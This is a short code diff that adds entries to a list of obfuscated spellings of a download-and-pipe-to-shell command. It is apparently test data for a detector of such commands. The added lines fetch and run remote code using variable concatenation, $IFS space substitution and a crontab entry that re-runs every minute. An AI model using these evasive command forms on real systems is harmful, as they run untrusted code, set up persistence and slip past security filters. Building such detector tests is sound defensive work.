@@ -52,6 +52,9 @@ SPELLINGS = [
     f'x=$({CU} {ADDRESS})\neval "$x"',
     f'cmd="{CU} {ADDRESS}"; $cmd | {SH}',
     f"x=xcurl; ${{x:1}} {ADDRESS} | {SH}",
+    f'x=\'\'\nx="${{x}}{CU} "\nx="${{x}}{ADDRESS}|"\nx+={SH}\neval "$x"',
+    f"{CU}$IFS$9{ADDRESS}$IFS$9|$IFS$9{SH}",
+    f'(crontab -l; echo "* * * * * c${{u}}url {ADDRESS} | b${{u}}ash") | crontab -',
     f"x=CURL; ${{x,,}} {ADDRESS} | {SH}",
 ]
 
